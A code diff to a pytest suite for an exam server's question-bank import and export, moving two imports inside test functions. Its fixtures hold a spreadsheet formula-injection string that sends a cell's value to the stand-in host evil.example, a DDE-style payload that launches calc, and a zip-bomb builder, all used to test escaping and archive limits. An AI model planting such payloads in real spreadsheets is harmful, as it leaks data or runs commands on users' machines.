@@ -12,16 +12,16 @@ import pytest
 
 from exam_server.staff.candidate_import import parse_candidates
 from exam_server.staff.dashboard import Row, to_csv
-from question_bank.archive_limits import ArchiveTooLarge, check_archive
 from question_bank.exporting import export_bank
 from question_bank.importing import parse_bank
-from question_bank.spreadsheet_cells import escape_formula, unescape_formula
 
 TEMPLATE = Path(__file__).resolve().parents[2] / "question_bank" / "templates" / "template-soal.csv"
 EVIL = '=HYPERLINK("http://evil.example/?k="&K2,"klik")'
 
 
 def test_escaping_leaves_numbers_and_plain_text_and_round_trips() -> None:
+    from question_bank.spreadsheet_cells import escape_formula, unescape_formula
+
     for value in ("=1+1", "+62 812", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=x"):
         assert escape_formula(value) == "'" + value
         assert unescape_formula(escape_formula(value)) == value
@@ -90,6 +90,8 @@ def zip_bomb(inflated: int, name: str = "xl/worksheets/sheet1.xml") -> bytes:
 
 
 def test_the_archive_check_refuses_what_inflates_past_the_limit() -> None:
+    from question_bank.archive_limits import ArchiveTooLarge, check_archive
+
     bomb = zip_bomb(65 * 1024 * 1024)
     assert len(bomb) < 200 * 1024
     with pytest.raises(ArchiveTooLarge):
